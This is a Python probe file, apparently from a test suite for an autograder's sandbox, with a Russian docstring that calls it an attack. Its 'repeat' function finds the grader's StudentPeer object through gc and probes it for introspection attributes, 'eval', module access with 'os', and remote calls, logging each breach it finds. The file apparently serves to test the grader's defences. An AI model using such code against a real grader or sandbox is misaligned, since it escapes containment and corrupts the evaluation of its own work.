"""Нападение: по проводу просит экзаменатора показать ему свои объекты и исполнить чужой код."""

# %% base ../_probe

# %% repeat
import gc
import types


def repeat(function, x, times):
    peer = next(item for item in gc.get_objects() if type(item).__name__ == "StudentPeer")
    if times == 6:
        for number in range(1, 40):
            for name in ("__globals__", "__code__", "__defaults__", "__closure__", "__dict__", "__class__",
                         "__subclasses__", "__reduce__", "__mro__", "f_back", "tb_frame", "gi_frame"):
                for operation in ("get", "special"):
                    arguments = (number, name) if operation == "get" else (number, name, ())
                    try:
                        found = peer.request(operation, *arguments)
                    except Exception:
                        continue
                    say("ПРО" + "РЫВ:", operation, number, name, repr(found)[:200])
        for operation in ("names", "module", "restore", "set", "delete", "dir", "copy", "eval", "__init__", "bind", "figures"):
            for parameters in ((), ("os",), (("repeat_secret",),), (1, "x", 1), (1,), (1, True)):
                try:
                    found = peer.request(operation, *parameters)
                except Exception:
                    continue
                say("ПРО" + "РЫВ:", operation, parameters, repr(found)[:200])
        for number in range(1, 40):
            try:
                found = peer.request("call", number, (lambda: 0, {}), {})
            except Exception:
                continue
            say("ПРО" + "РЫВ: вызов", number, repr(found)[:200])
        say("экзаменатор промолчал")
    for _ in range(times):
        x = function(x)
    return x

# %% extra after=test_repeat
print("дошли сюда")

# %% extra after=test_smooth
print(*said, sep="\n")
